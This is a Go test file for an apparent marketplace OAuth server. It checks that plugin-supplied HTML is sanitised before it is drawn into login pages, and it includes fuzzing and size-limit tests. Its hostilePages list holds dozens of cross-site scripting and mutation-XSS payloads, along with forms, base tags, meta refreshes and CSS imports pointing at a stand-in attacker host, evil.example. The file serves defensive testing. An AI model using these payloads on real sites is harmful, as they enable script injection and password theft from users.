package server

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/valyala/fasthttp"
	"golang.org/x/net/html"

	"github.com/souk-market/souk/core/oauth"
)

const pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg=="

// hostilePages try to run, to send, to fetch, to look like the frame or to get
// the form inside of something.
var hostilePages = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://example.com/x.js></SCRIPT>`, `<script`, `<scr<script>ipt>alert(1)</script>`, `<script>a</scr` + `ipt >x`,
	`<img src=x onerror=alert(1)>`, `<img src="` + pixel + `" onload=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<img """><script>alert(1)</script>">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
	`<textarea><p title="</textarea><img src onerror=alert(1)>">`, `<title><p title="</title><img src onerror=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`, `<plaintext>`, `<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="` + pixel + `">x</a>`, `<a href="http://example.com/">x</a>`, `<a href="//example.com/">x</a>`,
	`<a href="/oauth/authorize">x</a>`, `<a href="https://souk.example.com@evil.example/">x</a>`, `<a href="https:\\evil.example">x</a>`, `<a href="https:evil.example">x</a>`, "<a href=\"https://a\tb\">x</a>",
	`<a href="https://example.com/" target=_self rel=opener ping=https://example.com onclick=alert(1) style=position:fixed>x</a>`,
	`<img src="https://example.com/x.png">`, `<img src="//example.com/x.png">`, `<img srcset="https://example.com/x.png 1x" src="` + pixel + `">`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
	`<img src="data:text/html;base64,PHN2Zy8+">`, `<img src="data:image/png,x">`, `<img src="` + pixel + `" usemap=#m ismap loading=lazy style=width:100vw>`, `<image src=x onerror=alert(1)>`, `<picture><source srcset=https://example.com/x></picture>`,
	`<video src=https://example.com/x poster=https://example.com/y autoplay onplay=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<embed src=x>`, `<object data=x></object>`, `<iframe src=https://example.com></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<frameset><frame src=x>`,
	`<form action=https://evil.example><input name=password></form>`, `</form><form action=https://evil.example>`, `<form><souk-form></souk-form></form>`, `<button formaction=https://evil.example>Continue</button>`, `<input type=password>`, `<select><option>x</select>`, `<label for=x>x</label>`,
	`<base href=https://evil.example/>`, `<base target=_top>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>*{display:none}</style>`, `<style>@import "https://evil.example";</style>`, `<style><!--</style><script>alert(1)</script>`,
	`<p style="background:url(https://evil.example)">x</p>`, `<div style=position:fixed;inset:0 class=button id=transaction name=action hidden>x</div>`, `<p title="x" contenteditable tabindex=1 accesskey=x draggable=true slot=x is=x>x</p>`, `<dialog open>x</dialog>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<!-- <souk-form></souk-form> --><p>x`, `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php x ?><p>x`, `<!doctype html><html><body onload=alert(1)><p>x`, `</main></body></html><p>x`,
	"<p>a\x00b</p>", "<\x00script>alert(1)</\x00script>", "<img src=\"java\x00script:alert(1)\">", "<p>\xff\xfe</p>", `<p>&#0;&#x110000;&lt;script&gt;</p>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<souk-form></souk-form><souk-form></souk-form><p>x`, `<a href="https://example.com/"><souk-form></souk-form></a>`, `<p><b><souk-form>`, `<souk-form/><p>behind`, `<table><tr><td><souk-form></souk-form><td>x`, `<table><souk-form></souk-form></table>`,
	`<souk-form onclick=alert(1) class=x><script>alert(1)</script></souk-form>`, `<SOUK-FORM></SOUK-FORM>`, `<souk-form<souk-form>></souk-form>`, `<ul><li>a<souk-form></souk-form>b<li>c</ul>`, `<pre>` + "\n\n" + `<souk-form></souk-form></pre>`,
	strings.Repeat("<b>", 600) + "x<souk-form>", strings.Repeat("<b><p>", 200) + "x", strings.Repeat("<table><tr><td>", 100), strings.Repeat("<a href='https://example.com/'>", 100) + "x", strings.Repeat("<p></b>", 300), `<b><i></b></i><souk-form></souk-form>x`,
}

var (
	markupElements = strings.Fields("p br hr h1 h2 h3 h4 h5 h6 div span section header footer strong b em i u s small sub sup mark code kbd samp pre q cite blockquote " +
		"ul ol li dl dt dd figure figcaption table caption colgroup thead tbody tfoot tr th td a img")
	httpsURL = regexp.MustCompile(`^https://[^@\s]`)
	picture  = regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$`)
	rels     = regexp.MustCompile(`\bnoreferrer\b.*\bnoopener\b|\bnoopener\b.*\bnoreferrer\b`)
)

// wantHarmless looks for anything in a plugin's part of the page that has no
// business there, as a browser would read it.
func wantHarmless(t *testing.T, source string, n *html.Node) {
	t.Helper()
	for n := range n.Descendants() {
		switch n.Type {
		case html.TextNode:
			continue
		case html.ElementNode:
		default:
			t.Errorf("%q leaves a node of type %d", source, n.Type)
			continue
		}
		if !slices.Contains(markupElements, n.Data) || n.Namespace != "" {
			t.Errorf("%q leaves an element %s %s", source, n.Namespace, n.Data)
		}
		for _, a := range n.Attr {
			ok := false
			switch n.Data + " " + a.Key {
			case "a href":
				u, err := url.Parse(a.Val)
				ok = err == nil && httpsURL.MatchString(a.Val) && u.Scheme == "https" && u.Host != "" && u.User == nil
			case "a rel":
				ok = rels.MatchString(a.Val)
			case "a target":
				ok = a.Val == "_blank"
			case "img src":
				ok = picture.MatchString(a.Val)
			case "img alt", "img width", "img height", "td colspan", "td rowspan", "th colspan", "th rowspan":
				ok = true
			default:
				ok = a.Key == "lang" || a.Key == "dir"
			}
			if !ok || a.Namespace != "" {
				t.Errorf("%q leaves %s=%q of an element %s", source, a.Key, a.Val, n.Data)
			}
		}
		if n.Data == "a" && !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "rel" }) {
			t.Errorf("%q leaves a link without rel", source)
		}
	}
}

// drawn writes a page with a plugin's HTML and reads it as a browser does.
func drawn(t *testing.T, source string) (doc *html.Node, policy string) {
	t.Helper()
	var r fasthttp.RequestCtx
	err := writePage(&r, &oauth.Page{Title: "Title", Message: "Message", HTML: source, Client: "Client", Transaction: "sealed", Redirect: oauth.DeviceRedirect, Status: 200,
		Fields: []oauth.Field{{Name: "email", Label: "Email", Kind: "email"}}})
	if err != nil {
		t.Fatalf("%q: %v", source, err)
	}
	if doc, err = html.Parse(strings.NewReader(string(r.Response.Body()))); err != nil {
		t.Fatal(err)
	}
	return doc, string(r.Response.Header.Peek("Content-Security-Policy"))
}

// wantFrame checks that a page is the core's own but for what stands in the
// plugin's part of it.
func wantFrame(t *testing.T, source string) {
	t.Helper()
	doc, policy := drawn(t, source)
	main := findElement(doc, "main")
	forms, inputs, own, images := 0, 0, 0, false
	for n := range main.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "form":
			forms++
			if n.Parent != main {
				t.Errorf("%q: the form is inside of %s", source, n.Parent.Data)
			}
			for c := range n.Descendants() {
				if c.Type == html.ElementNode && !slices.Contains([]string{"input", "label", "button"}, c.Data) {
					t.Errorf("%q: the form holds an element %s", source, c.Data)
				}
			}
		case "input":
			inputs++
		case "img":
			images = true
		}
		if slices.Contains(n.Attr, html.Attribute{Key: "class", Val: "own"}) {
			own++
			if n.Parent != main {
				t.Errorf("%q: its part is inside of %s", source, n.Parent.Data)
			}
			wantHarmless(t, source, n)
		}
	}
	if forms != 1 || inputs != 2 {
		t.Errorf("%q: the page has %d forms and %d inputs, want 1 and 2", source, forms, inputs)
	}
	if own == 0 && !strings.Contains(inner(main), "Message") {
		t.Errorf("%q: the page has neither a part of the plugin's nor its message", source)
	}
	if images != strings.Contains(policy, "img-src data:") {
		t.Errorf("%q: images: %v, policy: %s", source, images, policy)
	}
	for _, name := range []string{"script", "iframe", "base", "link", "object", "svg", "math", "template", formMark} {
		if findElement(doc, name) != nil {
			t.Errorf("%q: the page has an element %s", source, name)
		}
	}
}

func TestHostileMarkup(t *testing.T) {
	for _, source := range hostilePages {
		for _, page := range []string{source, source + "<souk-form></souk-form><p>behind", "<p>before<souk-form></souk-form>" + source, "<p>text " + source} {
			wantFrame(t, page)
		}
	}
}

func FuzzMarkup(f *testing.F) {
	for _, source := range hostilePages {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if len(source) > 16<<10 {
			return
		}
		wantFrame(t, source)
	})
}

func TestMarkup(t *testing.T) {
	const form = " FORM "
	for _, c := range []struct{ rule, source, want string }{
		{"the form stands where it is wanted", `<h2>Hi</h2><souk-form></souk-form><p>bye</p>`, `<h2>Hi</h2>` + form + `<p>bye</p>`},
		{"without a mark the form is last", `<h2>Hi</h2><p>there`, `<h2>Hi</h2><p>there</p>` + form},
		{"the first mark counts", `a<souk-form></souk-form>b<souk-form></souk-form>c`, `a` + form + `bc`},
		{"what is open is closed and opened again", `<div><p>a</p><souk-form></souk-form><p>b</p></div>`, `<div><p>a</p></div>` + form + `<div><p>b</p></div>`},
		{"what has nothing behind it is not opened again", `<div><div>a<souk-form></souk-form></div></div>b`, `<div><div>a</div></div>` + form + `b`},
		{"a mark that nobody closed", `a<souk-form><p>b</p>`, `a` + form + `<p>b</p>`},
		{"the form is in no link", `<a href="https://example.com/x?y=1&amp;z#f">help<souk-form></souk-form></a>`,
			`<a href="https://example.com/x?y=1&amp;z#f" rel="noreferrer noopener" target="_blank">help</a>` + form},
		{"text stays text", `1 &lt; 2 & "3"`, `1 &lt; 2 &amp; &#34;3&#34;` + form},
		{"languages", `<p lang="ar" dir="rtl" class="x">مرحبا</p>`, `<p lang="ar" dir="rtl">مرحبا</p>` + form},
		{"a picture that it carries", `<img src="` + pixel + `" alt="A &quot;pixel&quot;" width=10>`, `<img src="` + pixel + `" alt="A &#34;pixel&#34;" width="10">` + form},
		{"ends that nobody writes", `<ul><li>a<li><b>b<li>c</ul><p>d<p>e<dl><dt>f<dd>g</dl>`, `<ul><li>a</li><li><b>b</b></li><li>c</li></ul><p>d</p><p>e</p><dl><dt>f</dt><dd>g</dd></dl>` + form},
		{"ends of nothing", `</div></main>a</b></table>`, `a` + form},
		{"wrong order", `<b><i>a</b>b</i>c`, `<b><i>a</i></b>bc` + form},
		{"too deep", strings.Repeat("<b>", 600) + "x", strings.Repeat("<b>", 64) + "x" + strings.Repeat("</b>", 64) + form},
		{"space behind the form", "<div>a\n<souk-form></souk-form>\n</div>\n", "<div>a\n</div>" + form + "\n"},
		{"a table", `<table><tr><td colspan=2>a<td>b</table>`, `<table><tr><td colspan="2">a</td><td>b</td></tr></table>` + form},
		{"scripts go with what they say", `a<script>alert(1)</script>b`, `ab` + form},
	} {
		m, ok := readMarkup(c.source)
		if got := string(m.Before) + form + string(m.After); got != c.want || !ok {
			t.Errorf("%s: %s gives\n%s, want\n%s", c.rule, c.source, got, c.want)
		}
	}
	for _, source := range []string{"", " \n", "<script>x</script>", "<div></div><souk-form></souk-form>", "<a href=x></a>"} {
		if m, ok := readMarkup(source); ok {
			t.Errorf("%.40s is a page: %+v", source, m)
		}
	}
}

func TestPageOfAPlugin(t *testing.T) {
	doc, policy := drawn(t, `<h2>Welcome</h2><souk-form></souk-form><p>Bye</p>`)
	text := inner(findElement(doc, "main"))
	at := -1
	for _, part := range []string{">Client<", "<h2>Welcome</h2>", "<form ", "</form>", "<p>Bye</p>"} {
		next := strings.Index(text, part)
		if next <= at {
			t.Errorf("%s is not where it should be:\n%s", part, text)
		}
		at = next
	}
	if strings.Contains(text, "Message") || strings.Contains(text, "<h1>") {
		t.Errorf("the page has the core's heading or message too:\n%s", text)
	}
	if strings.Contains(policy, "img-src") {
		t.Errorf("a page without pictures may load some: %s", policy)
	}
	if _, policy := drawn(t, `<img src="`+pixel+`">`); !strings.Contains(policy, "default-src 'none'; img-src data:; ") {
		t.Errorf("a page with a picture may not load it: %s", policy)
	}
	doc, _ = drawn(t, `<script>1</script>`)
	if text := inner(findElement(doc, "main")); !strings.Contains(text, "<h1>Title</h1>") || !strings.Contains(text, "Message") {
		t.Errorf("a page of which nothing is left is not the core's:\n%s", text)
	}
}

// findElement returns the first element of a name.
func findElement(root *html.Node, name string) *html.Node {
	for n := range root.Descendants() {
		if n.Type == html.ElementNode && n.Data == name {
			return n
		}
	}
	return nil
}

// inner writes what is inside of an element.
func inner(n *html.Node) string {
	var b strings.Builder
	for c := range n.ChildNodes() {
		html.Render(&b, c)
	}
	return b.String()
}

// What a plugin's page becomes is about as long as the page, and takes about as
// long.
func TestMarkupStaysSmall(t *testing.T) {
	for _, source := range append([]string{
		strings.Repeat("<b lang=a><p>", 10000), strings.Repeat("<b lang=a>", 500) + strings.Repeat("<p>x", 20000), strings.Repeat("<p></b>", 30000),
		strings.Repeat("<table><tr><td>", 15000), strings.Repeat("<souk-form>", 20000), strings.Repeat("<a href=https://example.com/><div>", 8000),
		strings.Repeat("<", 200000), strings.Repeat("<div ", 50000), strings.Repeat("&", 200000), "<p " + strings.Repeat("a=b ", 60000) + ">",
	}, hostilePages...) {
		m, _ := readMarkup(source)
		if n, most := len(m.Before)+len(m.After), 8*len(source)+64<<10; n > most {
			t.Errorf("%.40s… of %d bytes becomes %d", source, len(source), n)
		}
	}
}
